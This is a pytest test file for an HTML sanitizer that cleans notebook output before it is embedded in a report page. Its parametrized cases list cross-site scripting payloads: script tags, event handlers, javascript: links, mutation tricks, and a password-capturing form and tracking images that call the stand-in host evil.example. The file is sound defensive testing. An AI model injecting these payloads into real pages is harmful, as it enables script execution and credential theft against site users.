"""Nothing that a notebook printed acts in a page, and what was worth reading is still there."""

from __future__ import annotations

import base64
from types import ModuleType

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st

from caderno.report.safe import picture, safe_html

PIXEL = "data:image/png;base64,iVBORw0KGgo="


def parsed(html: str) -> BeautifulSoup:
    return BeautifulSoup(html, "html.parser")


@pytest.mark.parametrize(
    "attack",
    [
        "<script>steal()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=steal()>",
        '<a href="javascript:steal()">here</a>',
        '<a href="&#106;avascript:steal()">here</a>',
        '<a href="data:text/html,<script>steal()</script>">here</a>',
        '<iframe srcdoc="<script>steal()</script>"></iframe>',
        "<svg onload=steal()><circle/></svg>",
        "<math><mtext><script>steal()</script></mtext></math>",
        '<form action="//evil.example"><input name="password"><button>steal</button></form>',
        '<meta http-equiv="refresh" content="0;url=//evil.example">',
        '<base href="//evil.example/">',
        '<link rel="stylesheet" href="//evil.example/x.css">',
        "<style>* { background: url(//evil.example) }</style>",
        '<object data="//evil.example"></object><embed src="//evil.example">',
        '<video src="//evil.example" autoplay></video>',
        '<img src="https://evil.example/pixel.png">',
        '<img srcset="https://evil.example/pixel.png 2x">',
        '<div style="position: fixed; inset: 0; background: url(//evil.example)">over all</div>',
        '<noscript><p title="</noscript><img src=x onerror=steal()>">',
        '<img alt="<h1 onmouseover=steal()>">',
    ],
)
def test_an_attack_is_taken_out(attack: str) -> None:
    for tag in parsed(safe_html(f"<p>before</p>{attack}<p>after</p>")).find_all(True):
        assert tag.name in {"p", "a", "img", "div"}
        for name, text in tag.attrs.items():
            assert name in {"alt", "rel"}, f"{name}={text}"


def test_the_text_around_an_attack_stays() -> None:
    assert parsed(safe_html("<p>be<script>x</script>fore</p><b onclick=x>bold</b>")).get_text() == "beforebold"


def test_a_data_frame_keeps_its_structure(samples: ModuleType) -> None:
    page = parsed(safe_html(samples.FRAME))
    assert page.table["class"] == ["dataframe"]
    assert page.find("th", string="EWR")["rowspan"] == "2"
    assert page.find("th", string="late")["colspan"] == "2"
    assert page.find("tr")["style"] == "text-align:right"
    assert not page.find("style")


def test_only_anchors_of_our_own_survive() -> None:
    page = parsed(safe_html('<h2 id="h-data">Data</h2><h2 id="main">Other</h2><p id="failure">x</p>', {"h-data"}))
    assert [tag.get("id") for tag in page.find_all(True)] == ["h-data", None, None]


def test_classes_of_our_own_design_cannot_be_borrowed() -> None:
    page = parsed(safe_html('<p class="state failed">x</p><table class="dataframe banner"></table>'))
    assert (page.p.get("class"), page.table.get("class")) == (None, ["dataframe"])


def test_headings_go_below_those_of_the_page() -> None:
    page = parsed(safe_html("<h1>a</h1><H2>b</H2><h3>c</h3><h6>d</h6><header>e</header>"))
    assert [tag.name for tag in page.find_all(True)] == ["h3", "h3", "h4", "h6"]


def test_a_picture_inside_the_page_survives_and_its_sides_must_be_numbers() -> None:
    page = parsed(safe_html(f'<img src="{PIXEL}" alt="plot" width="40" height="4em">'))
    assert page.img.attrs == {"src": PIXEL, "alt": "plot", "width": "40"}


@pytest.mark.parametrize("side", ["1 onerror=alert(1)", "40", -1, 0, 10**6, 4.5, True, None, [1]])
def test_a_side_that_is_no_sensible_whole_number_is_ignored(side: object, samples: ModuleType) -> None:
    img = picture("image/png", samples.png(), "a plot", width=side, height=40)
    assert parsed(img or "").img.attrs.keys() == {"src", "alt", "height"}


@pytest.mark.parametrize("data", ['"><script>steal()</script>', "", "not base64!", "a=b"])
def test_a_picture_that_is_none_is_refused(data: str) -> None:
    assert picture("image/png", data, "a plot") is None
    assert picture("image/svg+xml", data, "a plot") is None


def test_an_svg_becomes_an_image_in_which_no_script_can_run(samples: ModuleType) -> None:
    source = parsed(picture("image/svg+xml", samples.SVG, 'a "line"') or "").img
    assert source["alt"] == 'a "line"'
    kind, _, data = source["src"].partition(";base64,")
    assert kind == "data:image/svg+xml"
    assert base64.b64decode(data).decode() == samples.SVG


def test_an_svg_without_its_namespace_gets_it() -> None:
    img = parsed(picture("image/svg+xml", '<svg width="4"/>', "") or "").img
    assert base64.b64decode(img["src"].partition(",")[2]) == b'<svg xmlns="http://www.w3.org/2000/svg" width="4"/>'


@given(st.text(alphabet="<>/=\"'& abhimgsrconerrorxscript1\n", max_size=80))
def test_no_soup_of_letters_makes_an_unknown_tag_or_attribute(html: str) -> None:
    for tag in parsed(safe_html(html)).find_all(True):
        assert tag.name not in {"script", "iframe", "object", "style", "form"}
        assert not [name for name in tag.attrs if name.startswith("on")]
